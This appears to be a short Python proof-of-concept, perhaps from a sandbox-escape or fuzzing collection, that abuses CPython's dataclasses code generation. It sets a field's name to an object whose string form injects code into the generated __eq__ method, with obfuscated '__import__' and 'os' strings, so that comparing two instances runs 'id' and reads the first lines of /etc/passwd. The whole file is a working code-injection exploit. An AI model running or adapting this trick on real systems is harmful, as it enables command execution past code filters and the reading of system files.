# source: CPython Lib/dataclasses.py _tuple_str uses f'{obj}.{f.name}' (format() of a non-str name)
# family: dataclasses codegen: Field.name set to a script object whose __str__ returns code
# goal: runs id and head /etc/passwd via __eq__ codegen
import dataclasses


class Tag:
    def __init__(self, text):
        self.text = text

    def __str__(self):
        return self.text


@dataclasses.dataclass
class Quote:
    bid: float = 0.0


u = "_" * 2
code = u + "import" + u + "('o' 's').popen('id; head -3 /etc/passwd').read()"
for fld in dataclasses.fields(Quote):
    fld.name = Tag("bid) or print(" + code + ") or (self.bid")


@dataclasses.dataclass(init=False, repr=False)
class Level(Quote):
    pass


print(Level() == Level())
